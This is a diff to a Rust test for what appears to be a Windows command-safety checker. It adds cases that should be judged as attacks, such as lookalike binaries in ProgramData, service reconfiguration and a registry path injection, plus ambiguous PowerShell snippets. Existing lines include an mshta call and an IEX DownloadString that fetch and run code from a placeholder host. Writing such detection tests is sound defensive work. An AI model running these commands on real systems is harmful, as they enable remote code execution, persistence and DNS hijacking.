@@ -99,6 +99,11 @@ fn attacks_fail_and_the_rest_can_t_be_told() {
         "netsh interface ip set dns x static 203.0.113.9",
         "sc config cloudbase-init start= demand",
         "mshta http://203.0.113.7/",
+        // Known names of other folders.
+        r"C:\ProgramData\ping.exe -n 3 127.0.0.1",
+        r"C:\ProgramData\echo.exe",
+        r"..\sc.exe config cloudbase-init start= auto",
+        r"reg add HKLM\SOFTWARE\Python\PythonCore\3.11\PythonPath\x /d C:\x",
     ];
     let power = [
         "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')",
@@ -124,8 +129,11 @@ fn attacks_fail_and_the_rest_can_t_be_told() {
             "$x.Invoke()",
             "[Console]::Beep()",
             "Foo-Bar",
+            "Get-Foo",
             ". x.ps1",
             "& $a",
+            "$x",
+            "$a = $b.Start($c)",
         ] {
             let deed = judge(context, &command(text, Language::PowerShell));
             assert!(matches!(deed, Deed::Unclear(_)), "{text}: {deed:?}");
